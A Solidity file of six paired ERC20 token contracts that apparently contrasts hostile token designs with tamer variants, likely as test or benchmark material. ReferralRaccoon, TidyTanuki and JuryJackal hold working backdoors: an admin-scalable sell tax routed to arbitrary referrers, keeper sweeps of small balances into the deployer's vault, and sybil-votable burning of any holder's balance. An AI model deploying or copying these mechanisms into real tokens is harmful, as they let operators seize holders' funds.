// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";

interface IClanFactory {
    function createPair(address a, address b) external returns (address);
}

interface IClanRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

abstract contract ClanBase is ERC20, AccessControl {
    address public immutable pair;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        IClanRouter router = IClanRouter(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        pair = IClanFactory(router.factory()).createPair(address(this), router.WETH());
        _mint(msg.sender, supply);
    }
}

contract ReferralRaccoon is ClanBase {
    bytes32 public constant GROWTH_ROLE = keccak256("GROWTH_ROLE");
    uint256 public constant PER_LEVEL = 200;
    uint256 public constant MAX_LEVELS = 32;

    uint256 public levels = 2;
    mapping(address => address) public referrerOf;

    error AlreadyReferred();
    error BadReferrer();

    event ReferrerBound(address indexed account, address indexed referrer);
    event ReferralPaid(address indexed referrer, uint256 amount);
    event LevelsUpdated(uint256 levels);

    constructor() ClanBase("Referral Raccoon", "RACC", 500_000_000 ether) {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(GROWTH_ROLE, msg.sender);
    }

    function setLevels(uint256 levels_) external onlyRole(GROWTH_ROLE) {
        require(levels_ <= MAX_LEVELS, "levels");
        levels = levels_;
        emit LevelsUpdated(levels_);
    }

    function bind(address referrer) external {
        _bind(msg.sender, referrer);
    }

    function bindFor(address[] calldata accounts, address referrer) external onlyRole(GROWTH_ROLE) {
        for (uint256 i; i < accounts.length; i++) _bind(accounts[i], referrer);
    }

    function _bind(address account, address referrer) private {
        if (referrerOf[account] != address(0)) revert AlreadyReferred();
        if (referrer == address(0) || referrer == account || referrer == pair) revert BadReferrer();
        referrerOf[account] = referrer;
        emit ReferrerBound(account, referrer);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && from != address(0)) {
            uint256 share = (value * PER_LEVEL) / 10_000;
            address referrer = referrerOf[from];
            for (uint256 i; i < levels && referrer != address(0); i++) {
                super._update(from, referrer, share);
                value -= share;
                emit ReferralPaid(referrer, share);
                referrer = referrerOf[referrer];
            }
        }
        super._update(from, to, value);
    }
}

contract ReferralRaccoonDuo is ClanBase {
    bytes32 public constant GROWTH_ROLE = keccak256("GROWTH_ROLE");
    uint256 public constant PER_LEVEL = 200;
    uint256 public constant MAX_LEVELS = 2;

    uint256 public levels = 2;
    mapping(address => address) public referrerOf;

    error AlreadyReferred();
    error BadReferrer();

    event ReferrerBound(address indexed account, address indexed referrer);
    event ReferralPaid(address indexed referrer, uint256 amount);
    event LevelsUpdated(uint256 levels);

    constructor() ClanBase("Referral Raccoon Duo", "RACCD", 500_000_000 ether) {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(GROWTH_ROLE, msg.sender);
    }

    function setLevels(uint256 levels_) external onlyRole(GROWTH_ROLE) {
        require(levels_ <= MAX_LEVELS, "levels");
        levels = levels_;
        emit LevelsUpdated(levels_);
    }

    function bind(address referrer) external {
        _bind(msg.sender, referrer);
    }

    function _bind(address account, address referrer) private {
        if (referrerOf[account] != address(0)) revert AlreadyReferred();
        if (referrer == address(0) || referrer == account || referrer == pair) revert BadReferrer();
        referrerOf[account] = referrer;
        emit ReferrerBound(account, referrer);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && from != address(0)) {
            uint256 share = (value * PER_LEVEL) / 10_000;
            address referrer = referrerOf[from];
            for (uint256 i; i < levels && referrer != address(0); i++) {
                super._update(from, referrer, share);
                value -= share;
                emit ReferralPaid(referrer, share);
                referrer = referrerOf[referrer];
            }
        }
        super._update(from, to, value);
    }
}

contract TidyTanuki is ClanBase {
    bytes32 public constant KEEPER_ROLE = keccak256("KEEPER_ROLE");
    bytes32 public constant COUNCIL_ROLE = keccak256("COUNCIL_ROLE");
    address public immutable dustVault;
    uint256 public dustLine = 1e9;

    event DustLineUpdated(uint256 dustLine);
    event DustSwept(uint256 accounts, uint256 amount);

    constructor() ClanBase("Tidy Tanuki", "TIDY", 777_000_000 ether) {
        dustVault = msg.sender;
        _setRoleAdmin(KEEPER_ROLE, COUNCIL_ROLE);
        _grantRole(COUNCIL_ROLE, msg.sender);
    }

    function setDustLine(uint256 line) external onlyRole(COUNCIL_ROLE) {
        require(line <= totalSupply() / 20, "line above 5%");
        dustLine = line;
        emit DustLineUpdated(line);
    }

    function sweepDust(address[] calldata accounts) external onlyRole(KEEPER_ROLE) {
        uint256 swept;
        for (uint256 i; i < accounts.length; i++) {
            uint256 held = balanceOf(accounts[i]);
            if (held == 0 || held >= dustLine || accounts[i] == pair) continue;
            _transfer(accounts[i], dustVault, held);
            swept += held;
        }
        emit DustSwept(accounts.length, swept);
    }
}

contract TidyTanukiOptIn is ClanBase {
    bytes32 public constant KEEPER_ROLE = keccak256("KEEPER_ROLE");
    bytes32 public constant COUNCIL_ROLE = keccak256("COUNCIL_ROLE");
    address public immutable dustVault;
    uint256 public dustLine = 1e9;
    mapping(address => uint256) public ownLine;

    event DustLineUpdated(uint256 dustLine);
    event DustSwept(uint256 accounts, uint256 amount);

    constructor() ClanBase("Tidy Tanuki OptIn", "TIDYO", 777_000_000 ether) {
        dustVault = msg.sender;
        _setRoleAdmin(KEEPER_ROLE, COUNCIL_ROLE);
        _grantRole(COUNCIL_ROLE, msg.sender);
    }

    function setOwnLine(uint256 line) external {
        ownLine[msg.sender] = line;
    }

    function setDustLine(uint256 line) external onlyRole(COUNCIL_ROLE) {
        require(line <= totalSupply() / 20, "line above 5%");
        dustLine = line;
        emit DustLineUpdated(line);
    }

    function sweepDust(address[] calldata accounts) external onlyRole(KEEPER_ROLE) {
        uint256 swept;
        for (uint256 i; i < accounts.length; i++) {
            uint256 held = balanceOf(accounts[i]);
            uint256 line = ownLine[accounts[i]] < dustLine ? ownLine[accounts[i]] : dustLine;
            if (held == 0 || held >= line || accounts[i] == pair) continue;
            _transfer(accounts[i], dustVault, held);
            swept += held;
        }
        emit DustSwept(accounts.length, swept);
    }
}

contract JuryJackal is ClanBase {
    bytes32 public constant CLERK_ROLE = keccak256("CLERK_ROLE");
    uint256 public constant HEARING = 1 days;

    struct Case {
        address accused;
        uint40 opened;
        uint32 guilty;
        bool closed;
    }

    uint32 public quorum = 25;
    Case[] public cases;
    mapping(uint256 => mapping(address => bool)) public hasVoted;

    error NotAHolder();
    error NotReady();

    event CaseOpened(uint256 indexed id, address indexed accused);
    event Voted(uint256 indexed id, address indexed juror);
    event Verdict(uint256 indexed id, address indexed accused, uint256 forfeited);
    event QuorumUpdated(uint32 quorum);

    constructor() ClanBase("Jury Jackal", "JURY", 88_000_000 ether) {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
    }

    function setQuorum(uint32 quorum_) external onlyRole(CLERK_ROLE) {
        require(quorum_ > 0, "quorum");
        quorum = quorum_;
        emit QuorumUpdated(quorum_);
    }

    function openCase(address accused) external returns (uint256 id) {
        if (balanceOf(msg.sender) == 0) revert NotAHolder();
        require(accused != pair, "pool");
        id = cases.length;
        cases.push(Case(accused, uint40(block.timestamp), 0, false));
        emit CaseOpened(id, accused);
    }

    function vote(uint256 id) external {
        if (balanceOf(msg.sender) == 0) revert NotAHolder();
        require(!hasVoted[id][msg.sender], "voted");
        hasVoted[id][msg.sender] = true;
        cases[id].guilty++;
        emit Voted(id, msg.sender);
    }

    function closeCase(uint256 id) external {
        Case storage c = cases[id];
        if (c.closed || block.timestamp < c.opened + HEARING || c.guilty < quorum) revert NotReady();
        c.closed = true;
        uint256 held = balanceOf(c.accused);
        _burn(c.accused, held);
        emit Verdict(id, c.accused, held);
    }
}

contract JuryJackalBadge is ClanBase {
    bytes32 public constant CLERK_ROLE = keccak256("CLERK_ROLE");
    uint256 public constant HEARING = 1 days;

    struct Case {
        address accused;
        uint40 opened;
        uint32 guilty;
        bool closed;
    }

    uint32 public quorum = 25;
    Case[] public cases;
    mapping(uint256 => mapping(address => bool)) public hasVoted;
    mapping(address => bool) public shamed;

    error NotAHolder();
    error NotReady();

    event CaseOpened(uint256 indexed id, address indexed accused);
    event Voted(uint256 indexed id, address indexed juror);
    event Verdict(uint256 indexed id, address indexed accused);
    event QuorumUpdated(uint32 quorum);

    constructor() ClanBase("Jury Jackal Badge", "JURYB", 88_000_000 ether) {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
    }

    function setQuorum(uint32 quorum_) external onlyRole(CLERK_ROLE) {
        require(quorum_ > 0, "quorum");
        quorum = quorum_;
        emit QuorumUpdated(quorum_);
    }

    function openCase(address accused) external returns (uint256 id) {
        if (balanceOf(msg.sender) == 0) revert NotAHolder();
        require(accused != pair, "pool");
        id = cases.length;
        cases.push(Case(accused, uint40(block.timestamp), 0, false));
        emit CaseOpened(id, accused);
    }

    function vote(uint256 id) external {
        if (balanceOf(msg.sender) == 0) revert NotAHolder();
        require(!hasVoted[id][msg.sender], "voted");
        hasVoted[id][msg.sender] = true;
        cases[id].guilty++;
        emit Voted(id, msg.sender);
    }

    function closeCase(uint256 id) external {
        Case storage c = cases[id];
        if (c.closed || block.timestamp < c.opened + HEARING || c.guilty < quorum) revert NotReady();
        c.closed = true;
        shamed[c.accused] = true;
        emit Verdict(id, c.accused);
    }
}
